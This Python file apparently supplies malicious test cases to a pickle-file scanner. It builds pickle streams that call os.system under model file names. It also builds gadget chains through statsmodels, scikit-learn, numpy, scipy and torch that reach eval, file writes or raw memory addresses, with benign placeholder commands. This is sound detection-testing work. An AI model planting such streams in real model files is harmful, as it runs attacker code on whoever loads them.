"""Streams that name only what is known to be harmless, and put it together so that it is not.

Each of them ran its command in a real loader (with a command that wrote a file) on 2026-11-21, but
for the two that only take a bad address, which ended the interpreter.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus.malicious.assembly import named, proto, push, text
from tests.corpus.malicious.entry import DANGEROUS, PRINT, UNKNOWN_IMPORT, WORD, Entry

STOP, MARK, REDUCE, BUILD, APPEND = b".", b"(", b"R", b"b", b"a"
SYSTEM = named("os", "system") + MARK + push(WORD) + b"tR"
_LEADS = {
    "None and POP": b"N0",
    "a number and POP": b"I1\n0",
    "a text and POP": b"S'x'\n0",
    "two marks": b"((1",
    "a list that is let go": b"]0",
    "a long text": b"S'" + b"-" * 5000 + b"'\n0",
    "much that is let go": b"N0" * 3000,
    "protocol 0, said": b"\x80\x00",
    "protocol 1, said": b"\x80\x01",
    "a frame without a protocol": b"\x95" + bytes(8),
    "a comment": b"V# a text, as it seems\n0",
    "three streams of nothing": b"L119547037146038801333356L\n.M\xe9\x03.}.",
}
"""Beginnings of a stream by which it is not known for one."""


def gadgets() -> Iterator[Entry]:
    """Yield streams under names that say nothing, and streams of harmless names."""
    for what, lead in _LEADS.items():
        for name in ("pytorch_model.bin", "weights", "model.pt", "model.h5"):
            yield Entry(name, lead + SYSTEM + STOP, "pickle without a mark", what, DANGEROUS)
    for technique, data in _chains():
        yield Entry("model.pkl", data, "pickle of harmless names", technique, UNKNOWN_IMPORT)


def _object(module: str, name: str, **state: bytes) -> bytes:
    """Make an object without arguments, and give it a state."""
    return named(module, name) + b")\x81" + _pairs(**state) + BUILD


def _pairs(**items: bytes) -> bytes:
    return b"}" + MARK + b"".join(text(key, "binary") + item for key, item in items.items()) + b"u"


def _partial(function: bytes, arguments: bytes = b")", keywords: bytes = b"}") -> bytes:
    """Make a `partial`, and put another function in its place."""
    made = named("functools", "partial") + named("builtins", "int") + b"\x85R"
    return made + MARK + function + arguments + keywords + b"Nt" + BUILD


def _method(owner: bytes, name: str) -> bytes:
    return named("builtins", "getattr") + MARK + owner + push(name) + b"tR"


def _array() -> bytes:
    kind = named("numpy", "dtype") + MARK + push("u1") + b"\x89\x88tR"
    kind += MARK + b"K\x03" + push("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0t" + BUILD
    empty = named("numpy.core.multiarray", "_reconstruct") + named("numpy", "ndarray")
    empty += b"K\x00\x85" + push(b"b") + b"\x87R"
    return empty + MARK + b"K\x01K\x01\x85" + kind + b"\x89" + push(b"-") + b"t" + BUILD


def _chains() -> Iterator[tuple[str, bytes]]:
    for name in ("genpoisson_p_gen", "zipoisson_gen", "DiscretizedCount"):
        state = {"_parse_arg_template": push(PRINT), "shapes": b"N", "numargs": b"K\0"}
        made = _object("statsmodels.distributions.discrete", name, **state)
        yield f"text of a distribution: {name}", proto(2) + made + STOP
    tags = _partial(named("argparse", "Namespace"), keywords=_pairs(estimator_type=b"N"))
    frame = named("pandas", "DataFrame") + b"}" + push("a") + b"]K\x01as\x85R"
    frame += _pairs(_typ=push("dataframe"), __sklearn_tags__=tags) + BUILD
    scorer = _object(
        "sklearn.metrics._scorer", "_Scorer", _response_method=push("eval"), _sign=b"K\x01",
        _score_func=named("numpy", "mean"), _kwargs=b"}", _metadata_request=b"N",
    )  # fmt: skip
    chain = _partial(scorer, MARK + frame + push("@np.os.system('echo roadworthy')") + b"t")
    for name in ("__randomstate_ctor", "__generator_ctor"):
        caller = named("numpy.random._pickle", name) + MARK + b"(K\x01l" + chain + b"tR"
        yield f"scorer called by {name}", proto(2) + caller + STOP
    solver = named("scipy.integrate._ivp.rk", "RK45") + MARK + chain + b"K\x01(K\x01lK\x02tR"
    yield "scorer called by a solver", proto(2) + solver + STOP
    writes = _method(_array(), "tofile")
    for module, owner in (("argparse", "Namespace"), ("types", "SimpleNamespace")):
        made = _object(module, owner, append=writes)
        appended = made + push("/nonexistent/roadworthy") + APPEND
        yield f"method in the place of append: {owner}", proto(3) + appended + STOP
    ordered = named("collections", "OrderedDict") + b")R" + MARK + push("append") + writes + b"u"
    bare = named("argparse", "Namespace") + b")\x81" + ordered + BUILD + push("x") + APPEND
    yield "method in the place of append: state of another kind", proto(3) + bare + STOP
    bunch = named("sklearn.utils._bunch", "Bunch") + b")\x81" + MARK + push("append") + writes
    yield "method in the place of append: Bunch", proto(3) + bunch + b"u" + push("x") + b"a."
    shown = _object("torch.nn.modules.module", "Module", extra_repr=tags, _modules=b"}")
    yield "text of an object", proto(2) + named("builtins", "str") + shown + b"\x85R" + STOP
    address = _pairs(
        data=b"J\x41\x41\x41\x41\x89\x86", shape=b"K\x04\x85", typestr=push("<i8"), version=b"K\x03"
    )
    points = _object("argparse", "Namespace", __array_interface__=address)
    yield "address in memory", proto(2) + named("numpy", "array") + points + b"\x85R" + STOP
    yield "address in memory, not taken up", proto(2) + points + STOP
